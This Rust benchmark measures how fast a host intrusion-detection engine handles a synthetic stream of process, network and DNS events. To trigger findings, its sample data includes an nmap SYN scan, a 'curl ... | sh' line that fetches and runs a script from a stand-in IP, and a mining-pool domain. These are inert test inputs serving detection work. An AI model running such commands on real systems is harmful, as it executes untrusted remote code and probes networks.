//! Detection engine throughput on a replayed event stream, one core, the built-in rules, DGA
//! model and default threat intel loaded.
//!
//! `cargo bench -p node-agent --bench detection` (figures in docs/FINDINGS.md).
//!
//! The stream is built once, deterministically, with the mix an ordinary busy host shows
//! (per 100 events: 8 exec, 12 fork, 12 exit, 38 connect, 15 DNS queries, 15 DNS answers),
//! names and addresses drawn from pools that include a few listed and suspicious ones so that
//! findings and aggregation are on the measured path. Each event goes through
//! `Detector::process`; the baseline pass, in the same process, only reads each event's
//! process and kind, so the ratio is the cost of detection itself.

#[path = "support/detector.rs"]
mod detector;

use detector::bench_detector;
use std::{
    hint::black_box,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    path::PathBuf,
    sync::Arc,
    time::Instant,
};

use node_agent::{
    detect::{NoLookup, Outcome, RuleSet},
    event::{
        Ancestor, Clock, DnsAnswer, DnsInfo, DnsQuestion, Event, ExitInfo, ForkInfo, NetInfo,
        ProcessRef, exec_info,
    },
};
use vigil_detection::{DgaModel, IntelConfig, SharedIntel};

const EVENTS: usize = 1_000_000;
const RUNS: usize = 5;
/// Findings written to the store in its part of the benchmark.
const STORE_WRITES: usize = 5_000;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[(self.next() % items.len() as u64) as usize]
    }
}

fn process(pid: u32, comm: &str) -> ProcessRef {
    ProcessRef {
        pid,
        tid: pid,
        ppid: 1,
        uid: 1000,
        gid: 1000,
        euid: 1000,
        egid: 1000,
        comm: comm.into(),
        cgroup_id: 1,
        pid_ns: 4026531836,
        mnt_ns: 4026531840,
        start_time_ns: u64::from(pid) * 1_000,
        uuid: format!("{pid:08x}-0000-4000-8000-000000000000"),
        ..ProcessRef::default()
    }
}

const COMMANDS: &[&[&str]] = &[
    &["/usr/bin/ls", "-la", "/var/log"],
    &["/usr/bin/cat", "/etc/os-release"],
    &["/usr/bin/sh", "-c", "for i in 1 2 3; do echo $i; done"],
    &["/usr/bin/gcc", "-O2", "-c", "main.c", "-o", "main.o"],
    &["/usr/bin/git", "status", "--porcelain"],
    &["/usr/bin/curl", "-fsSL", "https://example.com/health"],
    &["/usr/bin/python3", "-m", "pip", "--version"],
    &["/usr/bin/grep", "-r", "TODO", "src"],
    &["/usr/bin/tar", "czf", "backup.tgz", "data"],
    &[
        "/usr/bin/env",
        "DB_PASSWORD=hunter2",
        "/srv/app",
        "--port",
        "8080",
    ],
    // Suspicious ones, a small share of the stream.
    &["/usr/bin/nmap", "-sS", "10.0.0.0/24"],
    &[
        "/usr/bin/sh",
        "-c",
        "curl -fsSL http://203.0.113.7/i.sh | sh",
    ],
];

const DOMAINS: &[&str] = &[
    "github.com",
    "static.crates.io",
    "index.crates.io",
    "deb.debian.org",
    "api.example.com",
    "s3.eu-west-1.amazonaws.com",
    "registry-1.docker.io",
    "1.0.0.127.in-addr.arpa",
    "xjo4vk9bk1f19hxz.net",
    "pool.minexmr.com",
];

fn exec_event(rng: &mut Rng, clock: &Clock, pid: u32) -> Event {
    // SAFETY: ExecEvent is a `#[repr(C)]` struct of integers and byte arrays, for which all
    // zero bytes is a valid value (the kernel sends such records zero-filled).
    let raw: node_agent_common::ExecEvent = unsafe { std::mem::zeroed() };
    let mut info = exec_info(&raw, clock);
    let argv = *rng.pick(COMMANDS);
    info.time = "2026-11-27T10:00:00Z".into();
    info.process = process(pid, argv[0].rsplit('/').next().unwrap_or("x"));
    info.filename = argv[0].into();
    info.exe = PathBuf::from(argv[0]);
    info.argv = argv.iter().map(|a| (*a).to_owned()).collect();
    info.cwd = Some(PathBuf::from("/srv"));
    info.sha256 = Some(node_agent::exe_hash::Digest([(pid % 251) as u8; 32]));
    info.lineage = vec![
        Ancestor {
            pid: 900,
            ppid: 1,
            comm: "bash".into(),
            exe: Some(PathBuf::from("/usr/bin/bash")),
            uuid: "a".into(),
        },
        Ancestor {
            pid: 1,
            ppid: 0,
            comm: "systemd".into(),
            exe: Some(PathBuf::from("/usr/lib/systemd/systemd")),
            uuid: "b".into(),
        },
    ]
    .into();
    Event::Exec(Box::new(info))
}

fn stream() -> Vec<Event> {
    let clock = Clock::with_offset(0);
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut out = Vec::with_capacity(EVENTS);
    for i in 0..EVENTS {
        let pid = 1_000 + (rng.next() % 4_000) as u32;
        let time = "2026-11-27T10:00:00Z".to_owned();
        let event = match i % 100 {
            0..8 => exec_event(&mut rng, &clock, pid),
            8..20 => Event::Fork(ForkInfo {
                time,
                process: process(pid, "bash"),
                child_pid: pid + 1,
            }),
            20..32 => Event::Exit(ExitInfo {
                time,
                process: process(pid, "ls"),
                exit_status: Some(0),
                signal: None,
            }),
            32..70 => {
                // Mostly unlisted addresses; 1 in 64 from the built-in C2 and mining lists'
                // address space is not guaranteed, so hits come from DNS and exec instead.
                let ip = IpAddr::V4(Ipv4Addr::from(rng.next() as u32));
                Event::Connect(NetInfo {
                    time,
                    process: process(pid, "curl"),
                    ret: 0,
                    error: None,
                    fd: 3,
                    family: "inet",
                    protocol: "tcp",
                    remote: Some(SocketAddr::new(ip, 443)),
                    unix_path: None,
                    repeats: 0,
                    outcome: None,
                })
            }
            n => {
                let answer = n >= 85;
                let name = (*rng.pick(DOMAINS)).to_owned();
                Event::Dns(DnsInfo {
                    time,
                    process: process(pid, "systemd-resolve"),
                    direction: if answer { "answer" } else { "query" },
                    protocol: "udp",
                    resolver: "127.0.0.53:53"
                        .parse()
                        .unwrap_or_else(|_| SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 53)),
                    id: Some(7),
                    rcode: answer.then(|| "NOERROR".to_owned()),
                    questions: vec![DnsQuestion {
                        name: name.clone(),
                        qtype: "A".into(),
                    }],
                    answers: if answer {
                        vec![DnsAnswer {
                            name,
                            rtype: "A".into(),
                            ttl: 60,
                            data: Ipv4Addr::from(rng.next() as u32).to_string(),
                        }]
                    } else {
                        Vec::new()
                    },
                    truncated: false,
                    untracked: None,
                    parse_error: None,
                })
            }
        };
        out.push(event);
    }
    out
}

fn kind(e: &Event) -> usize {
    match e {
        Event::Exec(_) => 0,
        Event::Fork(_) => 1,
        Event::Exit(_) => 2,
        Event::Connect(_) | Event::Accept(_) => 3,
        Event::Dns(_) => 4,
        #[allow(unreachable_patterns, reason = "Event grows new variants")]
        _ => 5,
    }
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(f64::total_cmp);
    v[v.len() / 2]
}

fn main() {
    let started = Instant::now();
    let (intel, _) = vigil_detection::load(&IntelConfig::default()).expect("default intel");
    let load = started.elapsed();
    let (ips, domains, hashes) = intel.distinct_indicators();
    let intel = Arc::new(SharedIntel::new(intel));
    let rules = RuleSet::builtin().expect("built-in rules");
    let dga = DgaModel::builtin().expect("DGA model");
    let events = stream();
    println!(
        "default intel: {ips} IP networks, {domains} domains, {hashes} hashes, loaded in {:.2}s; {} rules; {} events",
        load.as_secs_f64(),
        rules.rules().len(),
        events.len()
    );

    let mut baseline = Vec::new();
    let mut rates = Vec::new();
    let mut per_kind = [Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new()];
    // Execs that raised or repeated a finding, and those that did not.
    let mut exec_split = [Vec::new(), Vec::new()];
    let mut raised = 0usize;
    let mut outcomes: Vec<Outcome> = Vec::new();
    for _ in 0..RUNS {
        let t = Instant::now();
        let mut sum = 0u64;
        for e in &events {
            sum = sum.wrapping_add(u64::from(e.process().pid) + kind(e) as u64);
        }
        black_box(sum);
        baseline.push(events.len() as f64 / t.elapsed().as_secs_f64());

        let mut detector = bench_detector(&intel, &dga, &rules);
        if outcomes.is_empty() {
            outcomes = events
                .iter()
                .flat_map(|e| detector.process(e, &NoLookup))
                .take(STORE_WRITES)
                .collect();
        }
        let mut kind_ns = [0u128; 5];
        let mut kind_n = [0u64; 5];
        let mut split_ns = [0u128; 2];
        let mut split_n = [0u64; 2];
        raised = 0;
        let t = Instant::now();
        for e in &events {
            raised += black_box(detector.process(e, &NoLookup)).len();
        }
        rates.push(events.len() as f64 / t.elapsed().as_secs_f64());
        // Per kind, timed separately so the whole-stream figure carries no timer overhead.
        let mut detector2 = bench_detector(&intel, &dga, &rules);
        for e in &events {
            let k = kind(e);
            let t = Instant::now();
            let hits = black_box(detector2.process(e, &NoLookup)).len();
            let ns = t.elapsed().as_nanos();
            if k < 5 {
                kind_ns[k] += ns;
                kind_n[k] += 1;
            }
            if k == 0 {
                let h = usize::from(hits > 0);
                split_ns[h] += ns;
                split_n[h] += 1;
            }
        }
        for k in 0..5 {
            if kind_n[k] > 0 {
                per_kind[k].push(kind_ns[k] as f64 / kind_n[k] as f64);
            }
        }
        for h in 0..2 {
            if split_n[h] > 0 {
                exec_split[h].push(split_ns[h] as f64 / split_n[h] as f64);
            }
        }
    }
    let rate = median(rates);
    let base = median(baseline);
    println!(
        "detector: {:.0} events/s (median of {RUNS}), {} outcomes per pass; baseline read-only pass {:.0} events/s ({:.1}x the detector's cost)",
        rate,
        raised,
        base,
        base / rate
    );
    for (h, name) in ["exec, no finding", "exec, finding"].iter().enumerate() {
        if !exec_split[h].is_empty() {
            println!(
                "  {name:<17} {:>8.0} ns/event (median of {RUNS}, timer included)",
                median(exec_split[h].clone())
            );
        }
    }
    for (k, name) in ["exec", "fork", "exit", "connect", "dns"]
        .iter()
        .enumerate()
    {
        if !per_kind[k].is_empty() {
            println!(
                "  {name:<8} {:>8.0} ns/event (median of {RUNS}, timer included)",
                median(per_kind[k].clone())
            );
        }
    }
    store_writes(&outcomes);
}

/// Upserts of the findings a pass raised (new ones and repeats) into a fresh SQLite store, as
/// `node-agent run` does for each.
fn store_writes(outcomes: &[Outcome]) {
    let dir = std::env::temp_dir().join(format!("vigil-bench-store-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let path = dir.join("findings.db");
    let mut store =
        node_agent::store::Store::open(&path, node_agent::store::StoreLimits::default())
            .expect("open a store");
    let t = Instant::now();
    let mut inserted = 0;
    for o in outcomes {
        if store
            .upsert(&o.finding, 1, o.archived_by.as_deref())
            .expect("upsert")
            .inserted
        {
            inserted += 1;
        }
    }
    let elapsed = t.elapsed().as_secs_f64();
    println!(
        "store: {} upserts ({inserted} new findings) at {:.0} upserts/s, {:.0} µs each",
        outcomes.len(),
        outcomes.len() as f64 / elapsed,
        elapsed * 1e6 / outcomes.len().max(1) as f64
    );
    let _ = std::fs::remove_dir_all(&dir);
}
